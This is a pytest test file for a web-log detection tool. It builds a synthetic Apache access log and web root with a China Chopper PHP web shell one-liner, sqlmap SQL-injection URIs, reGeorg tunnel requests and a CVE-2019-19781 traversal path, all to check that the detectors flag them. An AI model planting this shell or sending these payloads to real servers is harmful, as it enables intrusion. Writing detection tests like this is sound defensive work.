"""Web-server log detections on an Apache access log written here and a swept web root.

The log holds ordinary traffic (pages, a login form many visitors post to, WordPress's AJAX
endpoint) and, from one address each: a web shell's use (POSTs with varying answers to a page
nobody else requests, which the sweep flags), a reGeorg tunnel, a tunnel seen only in its
traffic (Neo-reGeorg hides its protocol), SQL-injection scanning with sqlmap and a Citrix ADC
path traversal (CVE-2019-19781) that the server answered. Collected with the real CLI.
"""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta

import pytest

from seawall.cli.app import run
from seawall.errors import ExitCode
from seawall.model.finding import ResultDocument
from tests.detect.netcase import collect_logs, coverage, of, run_hunt

START = datetime(2024, 3, 15, 8, 0, tzinfo=UTC)
SHELL_PAGE = "/wp-content/uploads/2024/03/img.php"
# A China Chopper one-liner (text only: never served or run)
CHOPPER = "<?php @eval($_POST['z0']);?>\n"


def _line(
    when: datetime,
    client: str,
    method: str,
    uri: str,
    status: int,
    size: int,
    agent: str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
) -> str:
    stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{client} - - [{stamp}] "{method} {uri} HTTP/1.1" {status} {size} "-" "{agent}"'


def _access_log() -> str:
    rng = random.Random(7)
    lines: list[tuple[datetime, str]] = []

    def add(offset: float, *args: object) -> None:
        when = START + timedelta(seconds=offset)
        lines.append((when, _line(when, *args)))  # type: ignore[arg-type]

    for k in range(3000):  # ordinary visitors
        client = f"192.0.2.{10 + k % 60}"
        page = rng.choice(
            ["/", "/index.php", "/about.html", f"/products.php?id={k % 40}", "/static/site.css"]
        )
        add(k * 20.0, client, "GET", page, 200, rng.randint(2000, 9000))
        if k % 5 == 0:
            add(k * 20.0 + 1, client, "POST", "/login.php", 302, 512)
        if k % 7 == 0:
            add(
                k * 20.0 + 2,
                client,
                "POST",
                "/wp-admin/admin-ajax.php",
                200,
                rng.randint(100, 4000),
            )
    for k in range(30):  # the web shell's user: commands with outputs of every size
        add(3000 + k * 90.0, "203.0.113.66", "POST", SHELL_PAGE, 200, rng.randint(40, 20000))
    add(2990, "203.0.113.66", "GET", SHELL_PAGE, 200, 0)
    add(
        10000,
        "203.0.113.77",
        "GET",
        "/uploads/tunnel.aspx?cmd=connect&target=10.0.0.5&port=3389",
        200,
        0,
    )
    for k in range(100):  # reGeorg carrying an RDP session
        command = "read" if k % 2 else "forward"
        add(
            10001 + k * 3.0,
            "203.0.113.77",
            "POST",
            f"/uploads/tunnel.aspx?cmd={command}",
            200,
            rng.randint(0, 3000),
        )
    for k in range(120):  # a tunnel seen only in its traffic: 25 POSTs a minute for ~5 minutes
        add(20000 + k * 2.4, "203.0.113.78", "POST", "/static/js/x7.jsp", 200, rng.randint(0, 2000))
    for k in range(40):  # sqlmap
        add(
            30000 + k,
            "198.51.100.9",
            "GET",
            f"/products.php?id={k}%20UNION%20ALL%20SELECT%20NULL,NULL--",
            500,
            300,
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
        )
    add(31000, "198.51.100.10", "GET", "/vpn/../vpns/cfg/smb.conf", 200, 1800, "curl/7.68.0")
    lines.sort()
    return "\n".join(text for _, text in lines) + "\n"


@pytest.fixture(scope="module")
def document(tmp_path_factory: pytest.TempPathFactory) -> ResultDocument:
    folder = tmp_path_factory.mktemp("web")
    log = folder / "access.log"
    log.write_text(_access_log(), encoding="utf-8")
    root = folder / "srv" / "var" / "www" / "html"
    shell = root / SHELL_PAGE.lstrip("/")
    shell.parent.mkdir(parents=True)
    shell.write_text(CHOPPER, encoding="utf-8")
    (root / "index.php").write_text("<?php echo 'hello'; ?>\n", encoding="utf-8")
    case_dir = folder / "case"
    argv = [
        "--case",
        str(case_dir),
        "collect",
        "files",
        str(root),
        "--host",
        "web1",
        "--os",
        "linux",
        "--json",
    ]
    assert run(argv) == ExitCode.OK
    collect_logs(case_dir, log, options=["--host", "web1"])
    return run_hunt(
        case_dir,
        ["web.webshell-request", "web.rare-post", "web.tunnel-page", "web.scanner-exploit"],
    )


def test_requests_to_the_flagged_shell(document: ResultDocument) -> None:
    found = of(document, "web.webshell-request")
    assert [f.host for f in found] == ["web1"]
    shell = found[0]
    assert "203.0.113.66" in shell.summary and shell.summary.count("img.php")
    assert shell.score == 95  # its POSTs were answered: someone ran it


def test_rare_page_with_posts_of_varying_answers(document: ResultDocument) -> None:
    found = of(document, "web.rare-post")
    pages = {f.summary.split(":")[0].removeprefix("web1") for f in found}
    # the shell, and the two tunnel pages (web shells too); not the login form or WordPress's
    # AJAX endpoint, which many clients post to
    assert pages == {SHELL_PAGE, "/uploads/tunnel.aspx", "/static/js/x7.jsp"}
    shell = next(f for f in found if SHELL_PAGE in f.summary)
    assert "203.0.113.66" in shell.summary
    for part in ("rare", "posts", "variance", "success", "score"):
        assert any(r.text.startswith(part + " ") for r in shell.reasons), part


def test_tunnels_by_protocol_and_by_traffic(document: ResultDocument) -> None:
    found = {f.summary.split(" ")[0]: f for f in of(document, "web.tunnel-page")}
    assert set(found) == {"203.0.113.77", "203.0.113.78"}
    assert found["203.0.113.77"].score == 90 and "reGeorg" in found["203.0.113.77"].summary
    assert 70 <= found["203.0.113.78"].score < 90  # traffic alone


def test_scanning_and_an_answered_exploit(document: ResultDocument) -> None:
    found = {f.summary.split(" ")[0]: f for f in of(document, "web.scanner-exploit")}
    assert set(found) == {"198.51.100.9", "198.51.100.10"}
    assert "scanner user agent" in found["198.51.100.9"].summary
    assert "SQL injection" in found["198.51.100.9"].summary
    assert found["198.51.100.9"].score == 60  # attempts, none answered 2xx
    assert "CVE-2019-19781" in found["198.51.100.10"].summary
    assert found["198.51.100.10"].score == 90
    assert coverage(document, "web.scanner-exploit").status == "ran"
